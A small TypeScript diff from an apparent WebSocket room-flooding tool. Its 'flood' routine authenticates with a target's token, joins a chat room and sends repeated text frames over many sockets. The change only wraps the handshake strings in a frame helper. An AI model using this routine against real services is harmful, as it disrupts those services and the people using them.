@@ -54,7 +54,10 @@ function flood(name: string, title: string, text: (target: Target) => string): A
     name,
     title,
     run(target) {
-      const hello = [`40${JSON.stringify({ token: target.me.token })}`, `42["join_room",{"roomId":${target.room}}]`];
+      const hello = [
+        textFrame(`40${JSON.stringify({ token: target.me.token })}`),
+        textFrame(`42["join_room",{"roomId":${target.room}}]`),
+      ];
       floodFrames(target, { sockets, path: webSocket, hello, after: /^40/, next: repeated([textFrame(text(target))]) });
     },
   };
